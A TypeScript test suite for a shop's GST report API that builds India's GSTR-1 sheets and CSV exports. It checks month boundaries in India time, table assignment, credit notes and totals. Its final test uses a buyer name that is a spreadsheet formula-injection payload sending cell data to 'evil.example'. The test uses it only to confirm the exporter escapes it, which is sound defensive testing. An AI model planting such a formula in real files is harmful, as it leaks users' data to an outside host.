import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type TaxedLine, sumTaxedLines } from "@api/lib/gst-tax";
import { seedDemoShop } from "@api/db/seed";
import { createTestApi, type TestApi } from "@api/test/harness";
import { MONTH_MESSAGE } from "@api/validation/gst-report";
import { gstinCheckCharacter } from "@api/validation/gstin";
import { signedInStaff } from "@api/resources/admin/test-helpers";
import { type ReportInvoice, type SheetTotal, invoiceTable, rupeesText } from "./gstr1";
import { type IssuedInvoice, issueCreditNote, issueInvoice } from "./report-fixtures";

let api: TestApi;
let token: string;
let customerId: string;

/** A moment in India's time. */
const ist = (local: string) => new Date(`${local}+05:30`);
const rs = (rupees: number) => rupees * 100;
const gstin = (first14: string) => first14 + gstinCheckCharacter(first14);
const BUYER = { gstin: gstin("29AAGCR4375J1Z"), name: "Rao Office Interiors LLP" };

type Sheet = { key: string; columns: string[]; rows: (string | number)[][]; totals: SheetTotal[] };
const taxable = (lines: TaxedLine[], rate?: number) =>
  sumTaxedLines(lines.filter((line) => rate === undefined || line.gstRate === rate)).taxablePaise;

let september: IssuedInvoice;
let b2b: IssuedInvoice;
let intra: IssuedInvoice;
let inter: IssuedInvoice;
let large: IssuedInvoice;
let intraAboveLakh: IssuedInvoice;
let cdnr: Awaited<ReturnType<typeof issueCreditNote>>;
let cdnur: Awaited<ReturnType<typeof issueCreditNote>>;
let b2csNote: Awaited<ReturnType<typeof issueCreditNote>>;
let sheets: Record<string, Sheet>;
let report: { month: string; documents: number; b2clThreshold: string; sheets: Sheet[] };

beforeAll(async () => {
  api = await createTestApi();
  token = (await signedInStaff(api, "operations")).token;
  customerId = (await api.signIn()).customerId;
  // The last minute of September in India (already 1 October nowhere): not October's.
  september = await issueInvoice(api, customerId, {
    at: ist("2026-09-30T23:59:00"),
    stateCode: "27",
    lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(20_000), quantity: 1 }],
  });
  // The first minute of October in India, still 30 September in UTC: October's.
  b2b = await issueInvoice(api, customerId, {
    at: ist("2026-10-01T00:00:00"),
    stateCode: "29",
    buyer: BUYER,
    lines: [
      { hsnCode: "9401", gstRate: 18, grossPaise: rs(45_000), quantity: 1 },
      { hsnCode: "4421", gstRate: 12, grossPaise: rs(2_000), quantity: 2 },
    ],
  });
  intra = await issueInvoice(api, customerId, {
    at: ist("2026-10-05T11:00:00"),
    stateCode: "07",
    discountPaise: rs(1_000),
    lines: [{ hsnCode: "9403", gstRate: 18, grossPaise: rs(30_000), quantity: 3 }],
  });
  inter = await issueInvoice(api, customerId, {
    at: ist("2026-10-09T15:30:00"),
    stateCode: "27",
    lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(60_000), quantity: 2 }],
  });
  large = await issueInvoice(api, customerId, {
    at: ist("2026-10-12T10:00:00"),
    stateCode: "33",
    lines: [
      { hsnCode: "9401", gstRate: 18, grossPaise: rs(1_49_500), quantity: 1 },
      { hsnCode: "9965", gstRate: 18, grossPaise: rs(500), quantity: 1 },
    ],
  });
  // Over a lakh but within Delhi: B2C large is inter-state only.
  intraAboveLakh = await issueInvoice(api, customerId, {
    at: ist("2026-10-20T09:00:00"),
    stateCode: "07",
    lines: [{ hsnCode: "9403", gstRate: 18, grossPaise: rs(1_20_000), quantity: 1 }],
  });
  cdnr = await issueCreditNote(api, b2b, rs(5_000), ist("2026-10-21T12:00:00"));
  cdnur = await issueCreditNote(api, large, rs(10_000), ist("2026-10-22T12:00:00"));
  // A note in October against September's B2C small invoice lowers October's B2C others.
  b2csNote = await issueCreditNote(api, september, rs(6_000), ist("2026-10-23T12:00:00"));
  // Midnight of 1 November in India is still 31 October in UTC: November's.
  await issueInvoice(api, customerId, {
    at: ist("2026-11-01T00:00:00"),
    stateCode: "27",
    lines: [{ hsnCode: "9401", gstRate: 28, grossPaise: rs(9_999), quantity: 1 }],
  });

  const res = await api.get("/admin/reports/gst?month=2026-10", token);
  expect(res.status).toBe(200);
  report = res.json.body;
  sheets = Object.fromEntries(report.sheets.map((sheet) => [sheet.key, sheet]));
});
afterAll(() => api.close());

describe("GET /admin/reports/gst", () => {
  it("counts October's documents by India's month, leaving out the last minute of September and the first of November", () => {
    expect(report).toMatchObject({ month: "2026-10", documents: 8, b2clThreshold: "100000.00" });
    expect(sheets.docs.rows).toEqual([
      ["Invoices for outward supply", "WN/26-27/000002", "WN/26-27/000006", 5, 0],
      ["Credit Note", "CN/26-27/000001", "CN/26-27/000003", 3, 0],
    ]);
    const everyCell = report.sheets.flatMap((sheet) => sheet.rows.flat());
    expect(everyCell).not.toContain("WN/26-27/000001");
    expect(everyCell).not.toContain("WN/26-27/000007");
    expect(everyCell).not.toContain(28);
  });

  it("lists the registered buyer's invoice in b2b, a row per rate", () => {
    expect(sheets.b2b.columns).toEqual([
      "GSTIN/UIN of Recipient",
      "Receiver Name",
      "Invoice Number",
      "Invoice date",
      "Invoice Value",
      "Place Of Supply",
      "Reverse Charge",
      "Applicable % of Tax Rate",
      "Invoice Type",
      "E-Commerce GSTIN",
      "Rate",
      "Taxable Value",
      "Cess Amount",
    ]);
    const head = [
      BUYER.gstin,
      BUYER.name,
      b2b.number,
      "01-Oct-2026",
      "47000.00",
      "29-Karnataka",
      "N",
      "",
      "Regular B2B",
      "",
    ];
    expect(sheets.b2b.rows).toEqual([
      [...head, 12, rupeesText(taxable(b2b.lines, 12)), ""],
      [...head, 18, rupeesText(taxable(b2b.lines, 18)), ""],
    ]);
    expect(taxable(b2b.lines, 12)).toBe(178571); // Rs 2,000 with 12 % inside: Rs 1,785.71
  });

  it("lists the inter-state invoice over Rs 1 lakh to an unregistered buyer in b2cl, and nothing else", () => {
    expect(sheets.b2cl.rows).toEqual([
      [large.number, "12-Oct-2026", "150000.00", "33-Tamil Nadu", "", 18, rupeesText(taxable(large.lines)), "", ""],
    ]);
  });

  it("sums the other B2C invoices by place of supply and rate, less the credit notes against them", () => {
    expect(sheets.b2cs.rows).toEqual([
      ["OE", "07-Delhi", "", 18, rupeesText(taxable(intra.lines) + taxable(intraAboveLakh.lines)), "", ""],
      ["OE", "27-Maharashtra", "", 18, rupeesText(taxable(inter.lines) - taxable(b2csNote.lines)), "", ""],
    ]);
    // The coupon lowered the Delhi invoice's value before its tax was carved out.
    expect(sumTaxedLines(intra.lines).totalPaise).toBe(rs(29_000));
  });

  it("puts the registered buyer's credit note in cdnr and the B2C large one's in cdnur", () => {
    expect(sheets.cdnr.rows).toEqual([
      [
        BUYER.gstin,
        BUYER.name,
        cdnr.number,
        "21-Oct-2026",
        "C",
        "29-Karnataka",
        "N",
        "Regular B2B",
        "5000.00",
        "",
        12,
        rupeesText(taxable(cdnr.lines, 12)),
        "",
      ],
      [
        BUYER.gstin,
        BUYER.name,
        cdnr.number,
        "21-Oct-2026",
        "C",
        "29-Karnataka",
        "N",
        "Regular B2B",
        "5000.00",
        "",
        18,
        rupeesText(taxable(cdnr.lines, 18)),
        "",
      ],
    ]);
    expect(sheets.cdnur.rows).toEqual([
      [
        "B2CL",
        cdnur.number,
        "22-Oct-2026",
        "C",
        "33-Tamil Nadu",
        "10000.00",
        "",
        18,
        rupeesText(taxable(cdnur.lines)),
        "",
      ],
    ]);
  });

  it("summarises by HSN and rate, net of credit notes, in a B2B tab and a B2C tab", () => {
    const line = (invoice: { lines: TaxedLine[] }, index: number) => invoice.lines[index];
    const net = (plus: TaxedLine[], minus: TaxedLine[]) => {
      const p = sumTaxedLines(plus);
      const m = sumTaxedLines(minus);
      return [
        p.totalPaise - m.totalPaise,
        p.taxablePaise - m.taxablePaise,
        p.igstPaise - m.igstPaise,
        p.cgstPaise - m.cgstPaise,
        p.sgstPaise - m.sgstPaise,
      ].map(rupeesText);
    };
    const row = (
      hsn: string,
      uqc: string,
      quantity: number,
      rate: number,
      [total, taxableValue, igst, cgst, sgst]: string[],
    ) => [hsn, "", uqc, quantity, total, rate, taxableValue, igst, cgst, sgst, ""];
    expect(sheets.hsn_b2b.rows).toEqual([
      row("4421", "NOS-NUMBERS", 2, 12, net([line(b2b, 1)], [line(cdnr, 1)])),
      row("9401", "NOS-NUMBERS", 1, 18, net([line(b2b, 0)], [line(cdnr, 0)])),
    ]);
    expect(sheets.hsn_b2c.rows).toEqual([
      row("9401", "NOS-NUMBERS", 3, 18, net([line(inter, 0), line(large, 0)], [line(cdnur, 0), line(b2csNote, 0)])),
      row("9403", "NOS-NUMBERS", 4, 18, net([line(intra, 0), line(intraAboveLakh, 0)], [])),
      row("9965", "NA", 0, 18, net([line(large, 1)], [line(cdnur, 1)])),
    ]);
    // Delhi's sales carry CGST and SGST, the others IGST only.
    expect(sheets.hsn_b2c.rows[1][7]).toBe("0.00");
    expect(sheets.hsn_b2b.rows[0][8]).toBe("0.00");
  });

  it("gives each sheet as the offline tool's CSV whose sums are the totals on screen", async () => {
    for (const sheet of report.sheets) {
      const res = await api.request("GET", `/admin/reports/gst/${sheet.key}?month=2026-10`, { token });
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
      expect(res.headers.get("content-disposition")).toBe(`attachment; filename="gstr1-2026-10-${sheet.key}.csv"`);
      const [columns, ...rows] = parse(res.json as string) as string[][];
      expect(columns).toEqual(sheet.columns);
      expect(rows.length).toBe(sheet.rows.length);
      const column = (name: string) => rows.map((r) => r[columns.indexOf(name)]);
      const paise = (cells: string[]) => cells.reduce((a, cell) => a + Math.round(Number(cell) * 100), 0);
      for (const total of sheet.totals) {
        let fromFile: string | number;
        if (total.rule === "count") fromFile = new Set(column(total.column)).size;
        else if (total.rule === "add") fromFile = column(total.column).reduce((a, cell) => a + Number(cell), 0);
        else if (total.rule === "sum") fromFile = rupeesText(paise(column(total.column)));
        else {
          const byDoc = new Map(rows.map((r) => [r[columns.indexOf(total.by)], r[columns.indexOf(total.column)]]));
          fromFile = rupeesText(paise([...byDoc.values()]));
        }
        expect(fromFile, `${sheet.key}: ${total.label}`).toEqual(total.value);
      }
    }
  });

  it("has the totals a return needs", () => {
    const totals = (key: string) => Object.fromEntries(sheets[key].totals.map((total) => [total.label, total.value]));
    expect(totals("b2b")).toEqual({
      Recipients: 1,
      Invoices: 1,
      "Invoice value": "47000.00",
      "Taxable value": rupeesText(taxable(b2b.lines)),
    });
    expect(totals("b2cl")).toMatchObject({ Invoices: 1, "Invoice value": "150000.00" });
    expect(totals("docs")).toEqual({ Documents: 8, Cancelled: 0 });
    const allTaxable =
      [b2b, intra, inter, large, intraAboveLakh].reduce((a, invoice) => a + taxable(invoice.lines), 0) -
      [cdnr, cdnur, b2csNote].reduce((a, note) => a + taxable(note.lines), 0);
    const hsnTaxable =
      Number(totals("hsn_b2b")["Taxable value"]) * 100 + Number(totals("hsn_b2c")["Taxable value"]) * 100;
    expect(Math.round(hsnTaxable)).toBe(allTaxable);
  });

  it("answers an empty month with empty sheets", async () => {
    const res = await api.get("/admin/reports/gst?month=2026-12", token);
    expect(res.json.body.documents).toBe(0);
    expect((res.json.body.sheets as Sheet[]).every((sheet) => sheet.rows.length === 0)).toBe(true);
  });

  it("refuses a month that is not YYYY-MM, and a file it does not make", async () => {
    for (const month of ["2026-13", "26-10", "", "2016-05"]) {
      const res = await api.get(`/admin/reports/gst?month=${month}`, token);
      expect(res.status, month).toBe(400);
      expect(res.json.errors.month).toBeTruthy();
    }
    expect((await api.get("/admin/reports/gst?month=2026-13", token)).json.errors.month).toBe(MONTH_MESSAGE);
    const unknown = await api.request("GET", "/admin/reports/gst/exp?month=2026-10", { token });
    expect(unknown.status).toBe(400);
  });
});

describe("the demo shop's filed month", () => {
  it("has March 2026 with a B2B invoice, B2C small ones in and out of Delhi, a B2C large one and its credit note", async () => {
    const demo = await createTestApi({ seed: false });
    try {
      await seedDemoShop(demo.db);
      const res = await demo.get("/admin/reports/gst?month=2026-03", (await signedInStaff(demo, "owner")).token);
      const demoSheets: Record<string, Sheet> = Object.fromEntries(
        (res.json.body.sheets as Sheet[]).map((sheet) => [sheet.key, sheet]),
      );
      expect(new Set(demoSheets.b2b.rows.map((row) => row[2]))).toEqual(new Set(["WN/25-26/000001"]));
      expect(demoSheets.b2cl.rows.map((row) => row[0])).toEqual(["WN/25-26/000004"]);
      expect(demoSheets.b2cs.rows.map((row) => row[1])).toEqual(["07-Delhi", "27-Maharashtra"]);
      expect(demoSheets.cdnur.rows.map((row) => row[1])).toEqual(["WN/25-26/C00001"]);
      expect(demoSheets.docs.rows).toEqual([
        ["Invoices for outward supply", "WN/25-26/000001", "WN/25-26/000004", 4, 0],
        ["Credit Note", "WN/25-26/C00001", "WN/25-26/C00001", 1, 0],
      ]);
    } finally {
      await demo.close();
    }
  });
});

describe("which table an invoice goes to", () => {
  const invoice = (at: string, totalPaise: number, changes: Partial<ReportInvoice> = {}): ReportInvoice => ({
    id: "x",
    number: "WN/24-25/000001",
    issuedAt: ist(at),
    buyer: { name: "Asha Verma", gstin: null, address: "", state: "Maharashtra", stateCode: "27" },
    supplyType: "inter",
    totalPaise,
    ...changes,
  });

  it("takes B2C large above Rs 1 lakh from 1 August 2024 (notification 12/2024-CT), above Rs 2.5 lakh before", () => {
    expect(invoiceTable(invoice("2024-08-01T00:00:00", rs(1_00_001)))).toBe("b2cl");
    expect(invoiceTable(invoice("2024-08-01T00:00:00", rs(1_00_000)))).toBe("b2cs");
    expect(invoiceTable(invoice("2024-07-31T23:59:59", rs(2_00_000)))).toBe("b2cs");
    expect(invoiceTable(invoice("2024-07-31T23:59:59", rs(2_50_001)))).toBe("b2cl");
  });

  it("never makes an intra-state sale or a registered buyer's invoice B2C large", () => {
    expect(invoiceTable(invoice("2026-10-01T10:00:00", rs(5_00_000), { supplyType: "intra" }))).toBe("b2cs");
    expect(
      invoiceTable(
        invoice("2026-10-01T10:00:00", rs(5_00_000), {
          buyer: { ...BUYER, address: "", state: "Karnataka", stateCode: "29" },
        }),
      ),
    ).toBe("b2b");
  });
});

describe("a sheet opened in a spreadsheet", () => {
  it("writes a buyer's name that looks like a formula behind an apostrophe, and a negative value as the number it is", async () => {
    const name = `=HYPERLINK("http://evil.example/?leak="&A2,"Open")`;
    await issueInvoice(api, customerId, {
      at: ist("2027-02-10T12:00:00"),
      stateCode: "29",
      buyer: { gstin: BUYER.gstin, name },
      lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(10_000), quantity: 1 }],
    });
    const small = await issueInvoice(api, customerId, {
      at: ist("2027-02-11T12:00:00"),
      stateCode: "27",
      lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(5_000), quantity: 1 }],
    });
    // March's only document is a note against February's sale: March's B2C others go below zero.
    await issueCreditNote(api, small, rs(1_180), ist("2027-03-02T12:00:00"));

    const b2bFile = await api.request("GET", "/admin/reports/gst/b2b?month=2027-02", { token });
    const [columns, row] = parse(b2bFile.json as string) as string[][];
    expect(row[columns.indexOf("Receiver Name")]).toBe(`'${name}`);
    expect(row[columns.indexOf("Invoice Value")]).toBe("10000.00");

    const b2csFile = await api.request("GET", "/admin/reports/gst/b2cs?month=2027-03", { token });
    const [b2csColumns, b2csRow] = parse(b2csFile.json as string) as string[][];
    expect(b2csRow[b2csColumns.indexOf("Taxable Value")]).toBe("-1000.00");
  });
});
